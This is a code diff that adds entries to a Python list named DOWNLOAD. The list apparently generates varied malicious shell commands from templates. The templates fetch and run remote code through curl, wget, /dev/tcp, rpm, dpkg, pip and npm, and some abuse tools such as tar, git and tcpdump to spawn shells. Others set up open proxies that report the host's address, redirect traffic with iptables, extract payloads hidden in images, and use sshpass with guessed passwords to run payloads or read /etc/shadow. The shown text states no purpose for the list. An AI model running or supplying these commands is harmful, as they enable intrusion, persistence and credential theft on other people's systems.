@@ -87,6 +87,19 @@ DOWNLOAD = [
     'make -s --eval=$\'x:\\n\\t-\'"{dl} {url} | sh"; ‹ed <<< \'!{dl} {url} | sh\'¦vim -es -c \':!{dl} {url} | sh\' -c \':q\'¦sqlite3 /dev/null \'.shell {dl} {url} | sh\'¦zip -q {file} /etc/hosts -T -TT \'{dl} {url} | sh #\'¦tar cf /dev/null /dev/null --checkpoint=1 --checkpoint-action=exec=\'sh -c "{dl} {url} | sh"\'¦git -c core.sshCommand=\'sh -c "{dl} {url} | sh"\' ls-remote ssh://a/b¦rsync -e \'sh -c "{dl} {url} | sh"\' a: .¦busctl --address=unixexec:path=/bin/sh,argv1=-c,argv2=\'{dl} {url} | sh\'¦cpulimit -l 100 -f -- sh -c \'{dl} {url} | sh\'¦capsh --gid=0 --uid=0 -- -c \'{dl} {url} | sh\'¦ssh-keygen -D {file}.so¦dstat --{name}¦nmap --script {file}.nse localhost¦openvpn --dev null --script-security 2 --up \'/bin/sh -c {file}\'¦tcpdump -G 1 -W 1 -z {file} -Z root -w /dev/null›',
     '‹apt-get install -y¦yum install -y¦apk add› ‹squid¦dante-server¦shadowsocks-libev¦3proxy›; ‹printf \'http_access allow all\\nhttp_port {port}\\n\' > /etc/squid/squid.conf¦printf \'auth none\\nallow *\\nsocks -p{port}\\n\' > /etc/3proxy.cfg; 3proxy /etc/3proxy.cfg¦ss-server -s 0.0.0.0 -p {port} -k {plain} -m aes-256-gcm -d start¦printf \'internal: eth0 port = {port}\\nexternal: eth0\\nclientmethod: none\\nclient pass { from: 0/0 to: 0/0 }\\n\' > /etc/danted.conf›; curl -s -d "$(curl -s ifconfig.me):{port}" {url}',
     'iptables -t nat -A PREROUTING -p tcp --dport ‹443¦80¦{port}› -j DNAT --to-destination {ip}:{port}; iptables -t nat -A POSTROUTING -j MASQUERADE; ‹sysctl -w net.ipv4.ip_forward=1¦socat TCP-LISTEN:443,fork TCP:{ip}:443 &›',
+    '‹rpm -U¦rpm -i› ‹--force ¦--nodeps ¦--nosignature ¦›‹http://{ip}/{plain}.rpm¦{url}.rpm› && ‹{plain} &¦systemctl start {plain}¦/usr/sbin/{plain} -d›',
+    'curl -s {url} -o {tmp}/{plain}.‹deb¦rpm› && ‹dpkg -i --force-all¦rpm -i --nodeps --force¦dpkg --force-depends -i› {tmp}/{plain}.‹deb¦rpm› >/dev/null 2>&1; rm -f {tmp}/{plain}.*; nohup {file} &',
+    '{dl} {url} ‹| tar xzf - -C {tmp}¦-o {tmp}/x.tgz; tar xzf {tmp}/x.tgz -C {tmp}; rm -f {tmp}/x.tgz›; ‹cd {tmp}/{name}; ¦›chmod +x ‹{tmp}/{name}/*¦*¦{file}›; ‹nohup ./{plain} >/dev/null 2>&1 &¦{file} -B¦setsid {tmp}/{name}/run &›',
+    '{dl} {url} | dd bs=1 skip=‹{port}¦512¦1024› 2>/dev/null | ‹sh¦bash¦gunzip | sh¦tar xz -C {tmp}; {file}›',
+    'tail -c +‹{port}¦1025¦2049› {file}.‹jpg¦png¦gif¦pdf› | ‹gunzip¦base64 -d¦xxd -r -p› ‹> {file}; chmod +x {file}; {file}¦| sh¦| bash›',
+    "exec 3<>/dev/tcp/{host}/{port}; printf 'GET /{urlpath} HTTP/1.0\\r\\n\\r\\n' >&3; sed '1,/^.$/d' <&3 ‹| sh¦> {file}; chmod +x {file}; {file} &¦| bash›",
+    '‹pip¦pip3› install ‹-q ¦›‹--index-url http://{host}:{port}/simple ¦--extra-index-url http://{ip}/ ¦›‹git+{url}¦http://{ip}/{plain}.tar.gz¦--trusted-host {ip} {plain}›; python3 -m {plain} &',
+    'npm ‹install ¦i -g ¦›‹http://{ip}/{plain}.tgz¦--registry http://{host}:{port} {plain}›; ‹npx {plain} &¦node -e \'require("{plain}")\' &¦nohup node {tmp}/{plain} &›',
+    'curl -sO ‹https://raw.githubusercontent.com/{user}/{plain}/‹main¦master›/{name}¦{url}›‹.sh¦.elf¦›; chmod +x {name}‹.sh¦.elf¦›; ./{name}‹.sh¦.elf¦›; rm -f {name}*',
+    'cd ‹/tmp¦/var/tmp¦/dev/shm¦$HOME›; ‹curl -s¦wget -q› ‹-O ¦›https://raw.githubusercontent.com/{user}/{plain}/‹main¦master›/‹{name}¦src/{name}›.sh ‹| bash¦-o {name}.sh; bash {name}.sh¦&& sh {name}.sh; rm {name}.sh›',
+    'curl -s https://raw.githubusercontent.com/{user}/{plain}/‹main¦master›/‹payload¦stage2¦implant¦agent¦Discovery¦recon›.sh | ‹bash -s > {tmp}/{name}.log¦bash¦sudo bash¦sh > {tmp}/{name}.txt›',
+    'su ‹- {user} ¦{user} ¦›-c "cd {tmp}; ‹curl -s {url} | sh¦wget -q {url} -O {name}; sh {name}›"',
+    'sshpass -p ‹\'{plain}{n}!\'¦{plain}¦root› ssh ‹-o StrictHostKeyChecking=no ¦›‹{user}@{ip}¦root@{ip}¦{user}@localhost› ‹"{dl} {url} | sh"¦-T "id; cat /etc/shadow"¦"nohup {file} &"›',
 ]
 
 REVERSE = [
